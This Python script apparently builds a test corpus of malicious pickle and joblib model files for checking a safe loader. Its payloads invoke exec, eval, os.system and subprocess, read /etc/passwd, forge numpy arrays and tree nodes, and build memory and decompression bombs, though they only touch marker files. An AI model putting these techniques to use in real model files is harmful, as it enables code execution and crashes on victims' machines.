"""Writes model files that run something, or break something, when they are loaded.

Usage: payloads.py FOLDER. Each file NAME.pkl or NAME.joblib would make FOLDER/ran-NAME
if what it says were executed. Prints a line for each as JSON: the file, what the refusal
has to say, and whether pickle.load or joblib.load is known to fall for it.
"""
import builtins
import copyreg
import gzip
import io
import json
import os
import pickle
import struct
import sys
import zlib

import numpy as np
import sklearn
from sklearn.cluster import KMeans
from sklearn.linear_model import LinearRegression
from sklearn.tree import DecisionTreeRegressor

FOLDER = sys.argv[1]
X, Y = np.arange(12.0).reshape(6, 2), np.arange(6.0)


def write(name, data, why, bites=False, ending=".pkl"):
    with open(os.path.join(FOLDER, name + ending), "wb") as f:
        f.write(data)
    print(json.dumps({"file": name + ending, "why": why, "bites": bites}))


def mark(name):
    return "open(%r, 'w').close()" % os.path.join(FOLDER, "ran-" + name)


class Call:
    """Is pickled as a call."""

    def __init__(self, f, *args, state=None):
        self.how = (f, args) if state is None else (f, args, state)

    def __reduce__(self):
        return self.how


def unicode(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def call(module, name, *texts, proto=4):
    """A call by opcodes, of names that need not exist here."""
    return b"\x80" + bytes([proto]) + unicode(module) + unicode(name) + b"\x93(" + b"".join(map(unicode, texts)) + b"tR."


# ---- calls of what runs text or commands

write("eval", pickle.dumps(Call(eval, mark("eval"))), "names builtins.eval", True)
write("exec", pickle.dumps(Call(exec, mark("exec"))), "names builtins.exec", True)
write("exec_old", pickle.dumps(Call(exec, mark("exec_old")), 0), "names builtins.exec", True)
write("system", pickle.dumps(Call(os.system, "touch " + os.path.join(FOLDER, "ran-system"))), "names posix.system", True)
write("open", pickle.dumps(Call(open, os.path.join(FOLDER, "ran-open"), "w")), "names io.open", True)
write("import", pickle.dumps(Call(__import__, "this")), "names builtins.__import__")
write("getattr", pickle.dumps(Call(getattr, "x", "upper")), "names builtins.getattr")
write("partial", pickle.dumps(Call(__import__("functools").partial(exec, mark("partial")))), "names functools.partial", True)
write("methodcaller", pickle.dumps(Call(__import__("operator").methodcaller("touch"), __import__("pathlib").Path(FOLDER, "ran-methodcaller"))), "names operator.methodcaller", True)
write("subprocess", call("subprocess", "check_output", "true"), "names subprocess.check_output")
write("runpy", call("runpy", "run_path", "x.py"), "names runpy.run_path")
write("runstring", call("numpy.testing._private.utils", "runstring", mark("runstring"), "x"), "names numpy.testing._private.utils.runstring")
write("numpy_load", call("numpy", "load", "x.npy"), "names numpy.load")
write("f2py", call("numpy.f2py", "compile", "x"), "names numpy.f2py.compile")
write("fromfile", call("numpy", "fromfile", "/etc/passwd"), "names numpy.fromfile")
write("datasets", call("sklearn.datasets", "fetch_openml", "x"), "names sklearn.datasets.fetch_openml")
write("joblib_load", call("joblib", "load", "x"), "names joblib.load")
write("sklearn_joblib", call("sklearn.utils._joblib", "load", "x"), "names sklearn.utils._joblib.load")
write("pickle_again", pickle.dumps(Call(pickle.loads, pickle.dumps(Call(exec, mark("pickle_again"))))), "names _pickle.loads", True)
write("query", call("pandas.core.computation.eval", "eval", "x"), "names pandas.core.computation.eval.eval")
# A dotted name goes through a module that is known to one that is not.
write("dotted", call("sklearn.linear_model._base", "LinearRegression.fit.__globals__"), "names sklearn.linear_model._base.LinearRegression.fit.__globals__")
write("dotted_builtins", call("builtins", "object.__subclasses__"), "names builtins.object.__subclasses__")
write("dotted_module", call("numpy", "core.multiarray._reconstruct"), "names numpy.core.multiarray._reconstruct")
write("alike", call("sklearn_evil", "LinearRegression"), "names sklearn_evil.LinearRegression")
write("alike_path", call("sklearn.linear_model._base.os", "LinearRegression"), "names sklearn.linear_model._base.os.LinearRegression")

# ---- opcodes

write("inst", b"(S'" + mark("inst").replace("'", '"').encode() + b"'\nibuiltins\nexec\n.", "", True)
write("obj", b"(cbuiltins\nexec\nS'" + mark("obj").replace("'", '"').encode() + b"'\no.", "names builtins.exec", True)
copyreg.add_extension("os", "system", 240)
write("extension", b"\x80\x02\x82\xf0X\x01\x00\x00\x00x\x85R.", "extension")
write("persistent", b"Pos.system\n.", "stored elsewhere")
write("persistent_binary", b"\x80\x02" + unicode("x") + b"Q.", "stored elsewhere")
write("newobj_ex", b"\x80\x04" + unicode("sklearn.linear_model._base") + unicode("LinearRegression") + b"\x93)}\x92.", "")
write("newobj_object", b"\x80\x02cbuiltins\nobject\n)\x81.", "")
write("call_of_text", b"\x80\x04" + unicode("exec") + unicode("x") + b"\x85R.", "calls what is no function")
write("call_of_class", b"\x80\x04" + unicode("sklearn.linear_model._base") + unicode("LinearRegression") + b"\x93)R.", "")
write("memo", b"\x80\x04" + unicode("builtins") + b"\x94" + unicode("exec") + b"\x94h\x00h\x01\x93\x94h\x02(" + unicode(mark("memo")) + b"tR.", "names builtins.exec", True)
write("memo_far", b"\x80\x02]r\xff\xff\xff\xff.", "")
write("append_to_array", b"\x80\x02K\x01K\x02a.", "no list")
write("item_of_array", b"\x80\x02]K\x00K\x02s.", "no dict")
write("empty", b"", "damaged")
write("cut", pickle.dumps(LinearRegression().fit(X, Y))[:-40], "damaged")
write("not_a_pickle", b"\x93NUMPY\x01\x00v\x00{'descr': '|O'}", "")

# ---- states


def estimator(state, cls=LinearRegression):
    m = (cls(2) if cls is KMeans else cls()).fit(X, Y)
    m.__dict__.update(state)
    return m


class Raw:
    """An estimator with a state that is not its own."""

    def __init__(self, cls, state):
        self.how = (copyreg._reconstructor, (cls, object, None), state)

    def __reduce__(self):
        return self.how


write("setstate_call", pickle.dumps(Raw(LinearRegression, Call(exec, mark("setstate_call")))), "names builtins.exec", True)
write("attribute", pickle.dumps(estimator({"predict": exec})), "names builtins.exec")
write("state_list", pickle.dumps(Raw(LinearRegression, [1])), "")
write("old_version", pickle.dumps(Raw(LinearRegression, dict(LinearRegression().fit(X, Y).__dict__, _sklearn_version="0.1"))), "scikit-learn 0.1 stored it")
write("many_columns", pickle.dumps(estimator({"n_features_in_": 1 << 40})), "")
write("many_threads", pickle.dumps(estimator({"_n_threads": 1 << 30, "n_jobs": 1 << 30}, KMeans)), "damaged")
write("wide_centers", pickle.dumps(estimator({"cluster_centers_": np.zeros((2, 1))}, KMeans)), "")

# Arrays whose bytes would be pointers, and more than there are.
ndarray = (np.ndarray, (0,), b"b")
reconstruct = np.zeros(1).__reduce__()[0]


def array(*state):
    return Call(reconstruct, *ndarray, state=state)


class Type(Call):
    pass


write("pointers", pickle.dumps(array(1, (1,), np.dtype(object), False, struct.pack("<Q", 0x4141414141414141))), "damaged")
write("flags", pickle.dumps(array(1, (1,), Type(np.dtype, "O8", False, True, state=(3, "|", None, None, None, -1, -1, 0)), False, b"AAAAAAAA")), "")
write("size", pickle.dumps(array(1, (4,), Type(np.dtype, "V8", False, True, state=(3, "|", None, None, None, 1 << 30, 1, 0)), False, b"AAAAAAAA")), "")
write("fields", pickle.dumps(array(1, (1,), Type(np.dtype, "V8", False, True, state=(3, "|", None, ("a",), {"a": (np.dtype(object), 0)}, 8, 1, 0)), False, b"AAAAAAAA")), "damaged")
write("far_field", pickle.dumps(array(1, (1,), Type(np.dtype, "V8", False, True, state=(3, "|", None, ("a",), {"a": (np.dtype("f8"), 4096)}, 8, 1, 0)), False, b"AAAAAAAA")), "damaged")
write("short", pickle.dumps(array(1, (1 << 20,), np.dtype("f8"), False, b"AAAAAAAA")), "damaged")
write("huge", pickle.dumps(array(1, (1 << 62,), np.dtype("f8"), False, b"")), "damaged")
write("negative", pickle.dumps(array(1, (-1,), np.dtype("f8"), False, b"AAAAAAAA")), "damaged")
tree = DecisionTreeRegressor(max_depth=2).fit(X, Y)
cls, args, state = tree.tree_.__reduce__()
for name, field, n in (("tree_child", "left_child", 1 << 40), ("tree_loop", "right_child", 0), ("tree_feature", "feature", 1 << 40), ("tree_negative", "feature", -7)):
    nodes = state["nodes"].copy()
    nodes[field][0] = n
    write(name, pickle.dumps(estimator({"tree_": Call(cls, *args, state=dict(state, nodes=nodes))}, DecisionTreeRegressor)), "tree that is damaged")
write("tree_features", pickle.dumps(estimator({"tree_": Call(cls, 1 << 30, *args[1:], state=state)}, DecisionTreeRegressor)), "tree that is damaged")
write("tree_wide", pickle.dumps(estimator({"tree_": Call(cls, 5, *args[1:], state=state)}, DecisionTreeRegressor)), "")

# ---- much of little

write("bytes_8", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b".", "too large")
write("bytearray_8", b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b".", "too large")
write("frame", b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N.", "too large")
write("long", b"\x80\x02\x8b" + struct.pack("<i", (1 << 31) - 1) + b".", "too large")
write("digits", b"I" + b"9" * 100000 + b"\n.", "")
write("call_bytes", call("builtins", "bytearray", "x"), "names builtins.bytearray")
laughs = b"\x80\x02]q\x00(" + b"K\x01" * 8 + b"e"
for i in range(30):
    laughs = laughs + b"q" + bytes([i + 1]) + b"0]" + b"(" + (b"h" + bytes([i + 1])) * 8 + b"e"
write("laughs", laughs + b".", "too large")
own = []
own.extend([own, own, own])
write("own_element", pickle.dumps(own), "")
deep = ()
write("deep_key", b"\x80\x02})" + b"\x85" * 200000 + b"K\x01s.", "")
write("deep_list", b"\x80\x02" + b"]" * 200000 + b"a" * 199999 + b".", "")

# ---- joblib's files

import joblib

joblib.dump({"x": Call(exec, mark("joblib_exec")), "a": X}, os.path.join(FOLDER, "x"))
plain = open(os.path.join(FOLDER, "x"), "rb").read()
write("joblib_exec", plain, "names builtins.exec", True, ".joblib")
write("joblib_zlib", zlib.compress(plain.replace(b"ran-joblib_exec", b"ran-joblib_zlib")), "names builtins.exec", True, ".joblib")
write("joblib_gzip", gzip.compress(plain.replace(b"ran-joblib_exec", b"ran-joblib_gzip")), "names builtins.exec", True, ".joblib")
objects = np.empty(1, object)
objects[0] = Call(exec, mark("joblib_objects"))
joblib.dump(objects, os.path.join(FOLDER, "x"))
write("joblib_objects", open(os.path.join(FOLDER, "x"), "rb").read(), "names builtins.exec", True, ".joblib")
big = joblib.numpy_pickle.NumpyArrayWrapper(np.ndarray, (1 << 40,), "C", np.dtype("f8"))
write("joblib_huge", pickle.dumps(big), "", False, ".joblib")
big = joblib.numpy_pickle.NumpyArrayWrapper(type("Sub", (), {"__module__": "builtins", "__qualname__": "eval"}), (1,), "C", np.dtype("f8"))
big.subclass = eval
write("joblib_subclass", pickle.dumps(big), "names builtins.eval", False, ".joblib")
write("joblib_old", pickle.dumps(joblib.numpy_pickle.NDArrayWrapper("x.npy", np.ndarray, False)), "names joblib.numpy_pickle_compat.NDArrayWrapper", False, ".joblib")
write("joblib_bomb", zlib.compress(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 31) + bytes(1 << 26), 9), "too large", False, ".joblib")
write("joblib_lz4", b"\x04\x22\x4d\x18" + bytes(40), "lz4", False, ".joblib")
os.remove(os.path.join(FOLDER, "x"))
